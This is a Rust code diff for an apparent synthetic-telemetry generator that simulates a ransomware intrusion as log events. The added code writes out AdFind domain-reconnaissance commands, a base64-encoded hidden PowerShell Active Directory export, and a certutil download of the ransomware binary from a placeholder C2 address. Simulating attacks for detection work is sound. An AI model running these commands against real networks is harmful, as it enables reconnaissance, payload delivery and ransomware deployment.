@@ -128,6 +128,20 @@ const WIPE_LIST: [(&str, &str, &str); 10] = [
     ),
 ];
 
+/// `Get-ADComputer -Filter * -Properties OperatingSystem,IPv4Address | Export-Csv
+/// C:\Windows\Temp\c.csv -NoTypeInformation`, as PowerShell's `-enc` takes it (UTF-16LE, base64).
+const AD_EXPORT: &str = "RwBlAHQALQBBAEQAQwBvAG0AcAB1AHQAZQByACAALQBGAGkAbAB0AGUAcgAgACoAIAAtAFAAcgBvAHAAZQByAHQAaQBlAHMAIABPAHAAZQByAGEAdABpAG4AZwBTAHkAcwB0AGUAbQAsAEkAUAB2ADQAQQBkAGQAcgBlAHMAcwAgAHwAIABFAHgAcABvAHIAdAAtAEMAcwB2ACAAQwA6AFwAVwBpAG4AZABvAHcAcwBcAFQAZQBtAHAAXABjAC4AYwBzAHYAIAAtAE4AbwBUAHkAcABlAEkAbgBmAG8AcgBtAGEAdABpAG8AbgA=";
+
+/// The AdFind sweep ransomware operators run, one `cmd.exe /c` per query.
+const ADFIND_SWEEP: [&str; 6] = [
+    "cmd.exe /c adfind.exe -f \"(objectcategory=person)\" > ad_users.txt",
+    "cmd.exe /c adfind.exe -f \"objectcategory=computer\" > ad_computers.txt",
+    "cmd.exe /c adfind.exe -f \"(objectcategory=organizationalUnit)\" > ad_ous.txt",
+    "cmd.exe /c adfind.exe -subnets -f (objectCategory=subnet) > subnets.txt",
+    "cmd.exe /c adfind.exe -f \"(objectcategory=group)\" > ad_group.txt",
+    "cmd.exe /c adfind.exe -gcb -sc trustdmp > trustdmp.txt",
+];
+
 /// A Windows tool run by `parent` as `parent`'s account.
 fn tool<'a>(parent: &Proc<'a>, file: &'a str, folder: &'a str, cmd: &'a str, pid: i64) -> Proc<'a> {
     Proc {
@@ -212,6 +226,32 @@ pub(super) fn write(g: &mut Gen, org: &Org, rng: &mut Rng, at: impl Fn(i64) -> i
             "1",
         ),
     );
+    // Directory reconnaissance: AdFind, then the computers through PowerShell's AD module.
+    for (k, cmd) in ADFIND_SWEEP.iter().enumerate() {
+        let shell = tool(
+            &implant,
+            "cmd.exe",
+            "c:\\windows\\system32\\cmd.exe",
+            cmd,
+            6_420 + k as i64 * 16,
+        );
+        rows::process_created(
+            g,
+            fs,
+            at(PRIVESC) + 4 * MINUTE + k as i64 * 3 * SECOND,
+            &implant,
+            &shell,
+        );
+    }
+    let ad_export = format!("powershell.exe -nop -w hidden -enc {AD_EXPORT}");
+    let export = tool(
+        &implant,
+        "powershell.exe",
+        "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
+        &ad_export,
+        6_530,
+    );
+    rows::process_created(g, fs, at(PRIVESC) + 6 * MINUTE, &implant, &export);
     // An IT admin signs in to the file server over RDP, as admins do.
     rows::logon(
         g,
@@ -570,19 +610,38 @@ fn ransomware_batch(g: &mut Gen, d: &Device, implant: &Proc<'_>, time: i64) {
         t += 4 * SECOND;
     }
 
-    // The ransomware itself: written, then quarantined by Defender before it runs.
+    // The ransomware itself: fetched with certutil, then quarantined by Defender before it runs.
     let folder = "C:\\Windows\\Temp";
+    let url = format!("http://{C2_IP}/{RANSOM_BINARY}");
+    let fetch_cmd = format!("certutil.exe -urlcache -split -f {url} {folder}\\{RANSOM_BINARY}");
+    let certutil = tool(
+        implant,
+        "certutil.exe",
+        "c:\\windows\\system32\\certutil.exe",
+        &fetch_cmd,
+        4_900,
+    );
+    rows::process_created(g, d, t + 25 * SECOND, implant, &certutil);
+    rows::connection(
+        g,
+        d,
+        t + 27 * SECOND,
+        &certutil,
+        "ConnectionSuccess",
+        (C2_IP, 80, &url),
+        55_121,
+    );
     rows::file_event(
         g,
         d,
-        implant,
+        &certutil,
         FileEvent {
             time: t + 30 * SECOND,
             action: "FileCreated",
             name: RANSOM_BINARY,
             folder,
             size: 2_318_336,
-            origin_url: "",
+            origin_url: &url,
             remote: None,
         },
     );
